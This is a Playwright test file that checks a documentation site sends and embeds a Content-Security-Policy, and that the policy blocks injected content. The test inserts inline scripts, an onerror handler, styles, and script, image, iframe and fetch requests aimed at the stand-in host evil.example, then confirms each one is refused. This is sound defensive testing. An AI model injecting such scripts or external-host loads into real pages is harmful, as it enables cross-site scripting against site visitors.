import { readFileSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { test as base } from '@playwright/test';
import { pageFile } from '../../src/publish/page-file.ts';
import { linkTableSchema } from '../../src/links/table-schema.ts';
import { expect, test } from './site.ts';

const table = linkTableSchema.parse(JSON.parse(readFileSync('dist/data/links.json', 'utf8')));
const paths = table.pages.map(({ path }) => path);

// That no page does what its policy refuses, every test sees that opens one: `quiet` in site.ts, and the errors of the portable edition.
test('every page is sent with the policy, and carries one of its own where no server sends any', async ({ request, site }) => {
  for (const path of paths) {
    const headers = (await request.get(site + path)).headers();
    expect(headers['content-security-policy'], path).toContain("script-src 'self' 'sha256-");
    expect(readFileSync(`dist/${pageFile(path)}`, 'utf8').match(/<meta http-equiv="Content-Security-Policy"/gi), path).toHaveLength(1);
  }
});

for (const form of ['headers', 'page'] as const) {
  base(`the policy of the ${form} refuses what was smuggled in: an inline script, a handler, another origin`, async ({ page }) => {
    const { serve } = await import('../../src/publish/serve.ts');
    const { address, close } = await serve('dist', 0);
    const start = form === 'headers' ? `${address}about-images/` : pathToFileURL('dist/about-images/index.html').href;
    await page.goto(start);
    await page.evaluate(async () => {
      const found: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void found.push(effectiveDirective));
      // Where Trusted Types are required, what would become code is refused as soon as it is set.
      const attempt = (act: () => void) => {
        try {
          act();
        } catch (error) {
          if (!(error instanceof TypeError)) throw error;
        }
      };
      attempt(() => document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = "smuggled"' })));
      attempt(() => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })));
      attempt(() => document.body.insertAdjacentHTML('beforeend', '<b id="smuggled">'));
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }));
      const image = document.createElement('img');
      attempt(() => image.setAttribute('onerror', 'document.title = "smuggled"'));
      image.setAttribute('src', 'https://evil.example/x.png');
      document.body.append(image);
      document.body.setAttribute('style', 'display: none');
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
      await fetch('https://evil.example/').catch(() => undefined);
      Reflect.set(globalThis, 'refused', found);
    });
    const kinds = () => page.evaluate(() => [...new Set<string>(Reflect.get(globalThis, 'refused'))].sort());
    const ofScripts = form === 'headers' ? ['require-trusted-types-for'] : ['script-src-attr', 'script-src-elem'];
    await expect.poll(kinds).toEqual(['connect-src', 'frame-src', 'img-src', ...ofScripts, 'style-src-attr', 'style-src-elem']);
    await expect(page.locator('#smuggled')).toHaveCount(form === 'headers' ? 0 : 1);
    await expect(page).toHaveTitle('About images – MAAS image docs');
    await close();
  });
}
